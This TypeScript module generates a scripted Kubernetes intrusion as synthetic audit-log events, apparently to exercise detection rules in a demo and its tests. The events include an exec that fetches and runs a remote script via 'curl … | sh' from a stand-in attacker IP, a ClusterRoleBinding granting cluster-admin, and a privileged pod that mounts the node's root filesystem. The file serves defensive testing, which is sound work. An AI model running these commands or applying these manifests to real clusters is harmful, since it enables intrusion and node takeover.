/**
 * A scripted intrusion, as audit.k8s.io/v1 Event objects shaped like kube-apiserver writes them
 * (the same shape as src/demo/traffic.ts), to interleave with normal traffic.
 *
 * The story: a scanner probes the API anonymously; mallory's stolen kubeconfig then hits a wall of
 * 403s, reads a database secret, execs into a prod pod to run a downloaded script, grants a
 * ServiceAccount cluster-admin, starts a privileged pod with the node's root filesystem mounted,
 * deletes a prod deployment, and finally acts as system:admin. Each step is built to raise exactly
 * one alert (the detection tests and the demo rely on it) and nothing else.
 */
import { formatMicros } from './traffic.js';

export interface IncidentStep {
  /** short id of the step, e.g. "exec" */
  id: string;
  /** what the step is, for the demo and the README */
  title: string;
  /** the rule that must raise the step's one alert */
  rule: string;
  /** the step's audit events, in stageTimestamp order */
  events: Array<Record<string, unknown>>;
}

export interface IncidentOptions {
  /** event time of the first step, ms since the epoch */
  start: number;
  /** event time between steps (default 20 s) */
  stepMs?: number;
  /** distinguishes the auditIDs of repeated runs (the demo loops the story) */
  run?: number;
}

export const ATTACKER = 'mallory@example.com';
/** mallory's stolen kubeconfig is used from a VPN address: inside the allowlist, so only what she does alerts */
export const ATTACKER_IP = '10.0.7.42';
export const SCANNER_IP = '203.0.113.66';
const ATTACKER_GROUPS = ['developers', 'system:authenticated'];
const KUBECTL = 'kubectl/v1.30.2 (linux/amd64) kubernetes/3968350';

interface Req {
  verb: string;
  uri: string;
  user?: Record<string, unknown>;
  impersonatedUser?: Record<string, unknown>;
  sourceIP?: string;
  userAgent?: string;
  objectRef?: Record<string, unknown>;
  code: number;
  level?: string;
  requestObject?: unknown;
  responseObject?: unknown;
  decisionReason?: string;
}

/** The incident steps starting at `opts.start`. Deterministic: the same options give the same events. */
export function scriptIncident(opts: IncidentOptions): IncidentStep[] {
  const step = opts.stepMs ?? 20_000;
  const run = opts.run ?? 0;
  let n = 0;
  const id = (): string => `1ac1de47-${hex(run, 4)}-4bad-8000-${hex(++n, 12)}`;
  const t0 = opts.start * 1000;
  const at = (i: number, offsetMs = 0): number => t0 + (i * step + offsetMs) * 1000;

  /** one request: RequestReceived (like ~30% of real requests) and the completion stages */
  const request = (r: Req, receivedUs: number, latencyMs: number, opts2: { received?: boolean; started?: boolean } = {}): Array<Record<string, unknown>> => {
    const auditID = id();
    const level = r.level ?? (r.requestObject !== undefined ? 'RequestResponse' : 'Metadata');
    const base = (stage: string, stageUs: number): Record<string, unknown> => {
      const ev: Record<string, unknown> = {
        kind: 'Event',
        apiVersion: 'audit.k8s.io/v1',
        level,
        auditID,
        stage,
        requestURI: r.uri,
        verb: r.verb,
        user: r.user ?? { username: ATTACKER, groups: ATTACKER_GROUPS },
      };
      if (r.impersonatedUser) ev.impersonatedUser = r.impersonatedUser;
      ev.sourceIPs = [r.sourceIP ?? ATTACKER_IP];
      ev.userAgent = r.userAgent ?? KUBECTL;
      if (r.objectRef) ev.objectRef = r.objectRef;
      if (stage !== 'RequestReceived') {
        ev.responseStatus =
          r.code >= 400 ? { metadata: {}, status: 'Failure', message: `${r.verb} is forbidden`, reason: 'Forbidden', code: r.code } : { metadata: {}, code: r.code };
      }
      if (level !== 'Metadata' && r.requestObject !== undefined) ev.requestObject = r.requestObject;
      if (level === 'RequestResponse' && r.responseObject !== undefined && stage === 'ResponseComplete') ev.responseObject = r.responseObject;
      ev.requestReceivedTimestamp = formatMicros(receivedUs);
      ev.stageTimestamp = formatMicros(stageUs);
      if (stage !== 'RequestReceived') {
        ev.annotations = {
          'authorization.k8s.io/decision': r.code === 403 ? 'forbid' : 'allow',
          'authorization.k8s.io/reason': r.decisionReason ?? (r.code === 403 ? '' : 'RBAC: allowed by RoleBinding "developers/prod" of ClusterRole "edit" to Group "developers"'),
        };
      }
      return ev;
    };
    const out: Array<Record<string, unknown>> = [];
    if (opts2.received) out.push(base('RequestReceived', receivedUs));
    if (opts2.started) out.push(base('ResponseStarted', receivedUs + 800));
    out.push(base('ResponseComplete', receivedUs + Math.round(latencyMs * 1000)));
    return out;
  };

  const steps: IncidentStep[] = [];

  // 1. anonymous probe from the internet, refused
  steps.push({
    id: 'anonymous-probe',
    title: 'Anonymous probe for kube-system secrets from the internet',
    rule: 'anonymous-denied',
    events: request(
      {
        verb: 'list',
        uri: '/api/v1/namespaces/kube-system/secrets',
        user: { username: 'system:anonymous', groups: ['system:unauthenticated'] },
        sourceIP: SCANNER_IP,
        userAgent: 'curl/8.5.0',
        objectRef: { resource: 'secrets', namespace: 'kube-system', apiVersion: 'v1' },
        code: 403,
      },
      at(0),
      1.2,
    ),
  });

  // 2. a burst of 403s: mallory's token tries secrets namespace after namespace
  const nss = ['default', 'kube-system', 'payments', 'checkout', 'frontend', 'search', 'staging', 'monitoring', 'ci', 'kube-public', 'cert-manager', 'ingress-nginx'];
  steps.push({
    id: 'forbidden-burst',
    title: 'Burst of 403s: secrets tried namespace after namespace',
    rule: 'auth-failure-burst',
    events: nss.flatMap((ns, i) =>
      request({ verb: 'list', uri: `/api/v1/namespaces/${ns}/secrets?limit=500`, objectRef: { resource: 'secrets', namespace: ns, apiVersion: 'v1' }, code: 403 }, at(1, i * 700), 2.5),
    ),
  });

  // 3. reading the database credentials in prod (allowed: the stolen identity can)
  steps.push({
    id: 'secret-read',
    title: 'Secret read: prod database credentials',
    rule: 'secret-read',
    events: request({ verb: 'get', uri: '/api/v1/namespaces/prod/secrets/orders-db-credentials', objectRef: { resource: 'secrets', namespace: 'prod', name: 'orders-db-credentials', apiVersion: 'v1' }, code: 200 }, at(2), 4.1, { received: true }),
  });

  // 4. exec into a prod pod, running a downloaded script
  const execURI =
    '/api/v1/namespaces/prod/pods/orders-6d8f7c9b5-x2x4q/exec?command=sh&command=-c&command=curl+-fsSL+http%3A%2F%2F203.0.113.66%2Fx.sh+%7C+sh&container=orders&stderr=true&stdout=true';
  steps.push({
    id: 'exec',
    title: "Exec into a prod pod: sh -c 'curl … | sh'",
    rule: 'exec-into-pod',
    events: request(
      { verb: 'create', uri: execURI, objectRef: { resource: 'pods', namespace: 'prod', name: 'orders-6d8f7c9b5-x2x4q', apiVersion: 'v1', subresource: 'exec' }, code: 101 },
      at(3),
      14_000,
      { received: true, started: true },
    ),
  });

  // 5. cluster-admin for a ServiceAccount she controls
  const crb = {
    kind: 'ClusterRoleBinding',
    apiVersion: 'rbac.authorization.k8s.io/v1',
    metadata: { name: 'ops-breakglass' },
    roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'ServiceAccount', name: 'default', namespace: 'prod' }],
  };
  steps.push({
    id: 'cluster-admin-binding',
    title: 'cluster-admin bound to the prod default ServiceAccount',
    rule: 'privileged-binding',
    events: request(
      {
        verb: 'create',
        uri: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict',
        objectRef: { resource: 'clusterrolebindings', name: 'ops-breakglass', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' },
        code: 201,
        requestObject: crb,
        responseObject: { ...crb, metadata: { name: 'ops-breakglass', uid: '5c0ffee0-0000-4000-8000-000000000005', resourceVersion: '4823991' } },
      },
      at(4),
      6.3,
    ),
  });

  // 6. a privileged pod with the node's root filesystem mounted
  const podSpec = {
    kind: 'Pod',
    apiVersion: 'v1',
    metadata: { name: 'node-debugger', namespace: 'prod' },
    spec: {
      hostPID: true,
      containers: [{ name: 'shell', image: 'docker.io/library/alpine:3.20', command: ['sleep', 'infinity'], securityContext: { privileged: true }, volumeMounts: [{ name: 'host', mountPath: '/host' }] }],
      volumes: [{ name: 'host', hostPath: { path: '/', type: 'Directory' } }],
    },
  };
  steps.push({
    id: 'privileged-pod',
    title: "Privileged pod with hostPID and the node's / mounted",
    rule: 'privileged-pod',
    events: request(
      {
        verb: 'create',
        uri: '/api/v1/namespaces/prod/pods?fieldManager=kubectl-run',
        objectRef: { resource: 'pods', namespace: 'prod', name: 'node-debugger', apiVersion: 'v1' },
        code: 201,
        level: 'Request',
        requestObject: podSpec,
      },
      at(5),
      18.7,
      { received: true },
    ),
  });

  // 7. deleting a prod deployment
  steps.push({
    id: 'delete-in-prod',
    title: 'Delete of a prod deployment',
    rule: 'protected-namespace-delete',
    events: request(
      { verb: 'delete', uri: '/apis/apps/v1/namespaces/prod/deployments/inventory', objectRef: { resource: 'deployments', namespace: 'prod', name: 'inventory', apiGroup: 'apps', apiVersion: 'v1' }, code: 200 },
      at(6),
      9.8,
    ),
  });

  // 8. acting as system:admin
  steps.push({
    id: 'impersonation',
    title: 'Impersonating system:admin',
    rule: 'impersonation',
    events: request(
      {
        verb: 'list',
        uri: '/api/v1/nodes?limit=500',
        impersonatedUser: { username: 'system:admin', groups: ['system:masters', 'system:authenticated'] },
        objectRef: { resource: 'nodes', apiVersion: 'v1' },
        code: 200,
      },
      at(7),
      7.7,
    ),
  });

  return steps;
}

/** All events of the steps in stageTimestamp order (the exec's completion lands after later steps began). */
export function incidentEvents(steps: readonly IncidentStep[]): Array<Record<string, unknown>> {
  return steps.flatMap((s) => s.events).sort((a, b) => eventTime(a) - eventTime(b));
}

/** stageTimestamp (else requestReceivedTimestamp) of an event object, ms; NaN when absent. */
export function eventTime(ev: Record<string, unknown>): number {
  const s = typeof ev.stageTimestamp === 'string' ? ev.stageTimestamp : typeof ev.requestReceivedTimestamp === 'string' ? ev.requestReceivedTimestamp : '';
  return s === '' ? NaN : Date.parse(s);
}

/**
 * Interleave `extra` (sorted by event time) into a `traffic` stream (sorted by event time, e.g.
 * generateTraffic): yields traffic until it passes the next extra event's time. Ends when `traffic`
 * does, or after `limit` traffic events.
 */
export function* interleave(
  traffic: Iterator<Record<string, unknown>>,
  extra: ReadonlyArray<Record<string, unknown>>,
  limit = Infinity,
): Generator<Record<string, unknown>, void, undefined> {
  let i = 0;
  for (let taken = 0; taken < limit; taken++) {
    const r = traffic.next();
    if (r.done) break;
    const t = eventTime(r.value);
    while (i < extra.length && eventTime(extra[i] as Record<string, unknown>) <= t) yield extra[i++] as Record<string, unknown>;
    yield r.value;
  }
  while (i < extra.length) yield extra[i++] as Record<string, unknown>;
}

function hex(n: number, width: number): string {
  return n.toString(16).padStart(width, '0').slice(-width);
}
